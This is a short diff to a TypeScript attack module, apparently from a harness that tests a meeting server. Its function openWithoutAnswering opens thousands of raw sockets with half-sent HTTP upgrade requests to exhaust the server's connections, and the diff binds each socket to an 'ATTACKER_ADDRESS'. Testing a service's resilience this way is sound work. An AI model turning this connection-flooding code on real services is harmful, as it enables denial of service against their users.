@@ -2,7 +2,7 @@ import { connect, type Socket } from "node:net";
 import { setTimeout as pause } from "node:timers/promises";
 import { manyAtOnce } from "../pace";
 import { openRequest, sendBody, untilEnded } from "../raw-request";
-import type { Attack, Target } from "../target";
+import { ATTACKER_ADDRESS, type Attack, type Target } from "../target";
 
 const SOCKETS = 6_000;
 const AT_ONCE = 50;
@@ -13,7 +13,7 @@ const GUESSERS = 50;
 
 function openWithoutAnswering({ url, meeting }: Target): Promise<Socket> {
   const { hostname, port, pathname, search } = new URL(meeting.url.replace(/^ws/, "http"));
-  const socket = connect(Number(port), hostname);
+  const socket = connect({ port: Number(port), host: hostname, localAddress: ATTACKER_ADDRESS });
   socket.on("error", () => undefined);
   socket.write(
     `GET ${pathname}${search} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nOrigin: ${url}\r\n` +
